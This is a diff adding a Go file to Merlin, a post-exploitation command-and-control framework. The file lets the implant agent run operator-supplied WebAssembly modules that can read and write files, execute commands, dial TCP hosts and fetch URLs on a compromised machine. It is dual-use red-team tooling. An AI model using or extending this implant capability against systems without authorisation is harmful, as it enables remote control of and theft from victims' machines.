@@ -0,0 +1,220 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+	"github.com/Ne0nd0g/merlin/pkg/wasm"
+)
+
+// wasmTask holds the state a WebAssembly task module can access through the host API
+type wasmTask struct {
+	args         []string
+	capabilities map[string]bool
+	stdout       bytes.Buffer
+	stderr       bytes.Buffer
+	result       []byte // result holds the data returned by the last host call for the module to copy with merlin.result
+}
+
+// executeWasm runs a WebAssembly task module's exported run or _start function with the Merlin host API
+func (a *Agent) executeWasm(p messages.WasmTask) (stdout string, stderr string) {
+	module, err := base64.StdEncoding.DecodeString(p.Module)
+	if err != nil {
+		return "", fmt.Sprintf("there was an error decoding the WebAssembly module:\r\n%s", err.Error())
+	}
+
+	m, err := wasm.Parse(module)
+	if err != nil {
+		return "", err.Error()
+	}
+
+	task := &wasmTask{args: p.Args, capabilities: make(map[string]bool)}
+	for _, c := range p.Capabilities {
+		task.capabilities[c] = true
+	}
+	if a.Verbose {
+		message("note", fmt.Sprintf("Executing WebAssembly module of %d bytes importing %v with capabilities %v",
+			len(module), m.Imports(), p.Capabilities))
+	}
+
+	i, err := wasm.Instantiate(m, task.hostAPI())
+	if err != nil {
+		return task.stdout.String(), err.Error()
+	}
+	if p.Timeout > 0 {
+		i.Deadline = time.Now().Add(p.Timeout)
+	}
+
+	entry := "run"
+	for _, e := range m.Exports() {
+		if e == "_start" {
+			entry = e
+		}
+	}
+	results, err := i.Call(entry)
+	if err != nil {
+		task.stderr.WriteString(err.Error())
+	} else if len(results) == 1 && int32(results[0]) != 0 {
+		task.stderr.WriteString(fmt.Sprintf("%s returned exit code %d", entry, int32(results[0])))
+	}
+	return task.stdout.String(), task.stderr.String()
+}
+
+// hostAPI returns the functions a task module can import from the "merlin" module. File, process, and network
+// functions return -1 unless the operator granted the matching capability when the task was created.
+func (t *wasmTask) hostAPI() map[string]wasm.HostFunction {
+	i32 := wasm.I32
+	ptrLen := []wasm.ValueType{i32, i32}
+	return map[string]wasm.HostFunction{
+		// args_count() -> i32 returns the number of task arguments
+		"merlin.args_count": {
+			Type: wasm.FuncType{Results: []wasm.ValueType{i32}},
+			Func: func(i *wasm.Instance, args []uint64) ([]uint64, error) {
+				return []uint64{uint64(len(t.args))}, nil
+			},
+		},
+		// arg(index) -> i32 places the task argument at index in the result buffer and returns its length
+		"merlin.arg": {
+			Type: wasm.FuncType{Params: []wasm.ValueType{i32}, Results: []wasm.ValueType{i32}},
+			Func: func(i *wasm.Instance, args []uint64) ([]uint64, error) {
+				index := int(uint32(args[0]))
+				if index >= len(t.args) {
+					return t.fail(), nil
+				}
+				return t.setResult([]byte(t.args[index])), nil
+			},
+		},
+		// result(ptr, len) -> i32 copies up to len bytes of the result buffer to ptr and returns the number copied
+		"merlin.result": {
+			Type: wasm.FuncType{Params: ptrLen, Results: []wasm.ValueType{i32}},
+			Func: func(i *wasm.Instance, args []uint64) ([]uint64, error) {
+				n := len(t.result)
+				if uint32(args[1]) < uint32(n) {
+					n = int(uint32(args[1]))
+				}
+				if err := i.WriteBytes(uint32(args[0]), t.result[:n]); err != nil {
+					return nil, err
+				}
+				return []uint64{uint64(n)}, nil
+			},
+		},
+		// output(ptr, len) writes to the job's standard output
+		"merlin.output": {
+			Type: wasm.FuncType{Params: ptrLen},
+			Func: func(i *wasm.Instance, args []uint64) ([]uint64, error) {
+				b, err := i.ReadBytes(uint32(args[0]), uint32(args[1]))
+				t.stdout.Write(b)
+				return nil, err
+			},
+		},
+		// error(ptr, len) writes to the job's standard error
+		"merlin.error": {
+			Type: wasm.FuncType{Params: ptrLen},
+			Func: func(i *wasm.Instance, args []uint64) ([]uint64, error) {
+				b, err := i.ReadBytes(uint32(args[0]), uint32(args[1]))
+				t.stderr.Write(b)
+				return nil, err
+			},
+		},
+		// read_file(path, path_len) -> i32 places the file's contents in the result buffer and returns its length
+		"merlin.read_file": t.stringFunc("file", 1, func(s []string) ([]byte, error) {
+			return ioutil.ReadFile(s[0]) // #nosec G304 Users can include any file they want
+		}),
+		// write_file(path, path_len, data, data_len) -> i32 writes data to the file and returns 0
+		"merlin.write_file": t.stringFunc("file", 2, func(s []string) ([]byte, error) {
+			return nil, ioutil.WriteFile(s[0], []byte(s[1]), 0600)
+		}),
+		// exec(name, name_len, args, args_len) -> i32 runs the program and places its combined output in the result buffer
+		"merlin.exec": t.stringFunc("process", 2, func(s []string) ([]byte, error) {
+			stdout, stderr := ExecuteCommand(s[0], s[1])
+			return []byte(stdout + stderr), nil
+		}),
+		// dial(address, address_len) -> i32 opens and closes a TCP connection to host:port and returns 0 on success
+		"merlin.dial": t.stringFunc("net", 1, func(s []string) ([]byte, error) {
+			conn, err := net.DialTimeout("tcp", s[0], 5*time.Second)
+			if err != nil {
+				return nil, err
+			}
+			return nil, conn.Close()
+		}),
+		// http_get(url, url_len) -> i32 places the HTTP response body in the result buffer and returns its length
+		"merlin.http_get": t.stringFunc("net", 1, func(s []string) ([]byte, error) {
+			client := http.Client{Timeout: 30 * time.Second}
+			resp, err := client.Get(s[0]) // #nosec G107 Users can request any URL they want
+			if err != nil {
+				return nil, err
+			}
+			defer resp.Body.Close()
+			return ioutil.ReadAll(resp.Body)
+		}),
+	}
+}
+
+// stringFunc returns a host function that takes count strings as pointer and length pairs, requires the provided
+// capability, and places the returned data in the result buffer. On error, the error message is placed in the result
+// buffer and -1 is returned.
+func (t *wasmTask) stringFunc(capability string, count int, f func([]string) ([]byte, error)) wasm.HostFunction {
+	params := make([]wasm.ValueType, count*2)
+	for p := range params {
+		params[p] = wasm.I32
+	}
+	return wasm.HostFunction{
+		Type: wasm.FuncType{Params: params, Results: []wasm.ValueType{wasm.I32}},
+		Func: func(i *wasm.Instance, args []uint64) ([]uint64, error) {
+			if !t.capabilities[capability] {
+				t.result = []byte(fmt.Sprintf("the %s capability was not granted to this task", capability))
+				return t.fail(), nil
+			}
+			s := make([]string, count)
+			for n := range s {
+				var err error
+				s[n], err = i.ReadString(uint32(args[n*2]), uint32(args[n*2+1]))
+				if err != nil {
+					return nil, err
+				}
+			}
+			data, errF := f(s)
+			if errF != nil {
+				t.result = []byte(errF.Error())
+				return t.fail(), nil
+			}
+			return t.setResult(data), nil
+		},
+	}
+}
+
+// setResult stores data in the result buffer and returns its length for the host function to return
+func (t *wasmTask) setResult(data []byte) []uint64 {
+	t.result = data
+	return []uint64{uint64(uint32(len(data)))}
+}
+
+// fail returns -1 as an i32 for a host function to return
+func (t *wasmTask) fail() []uint64 {
+	return []uint64{0xffffffff}
+}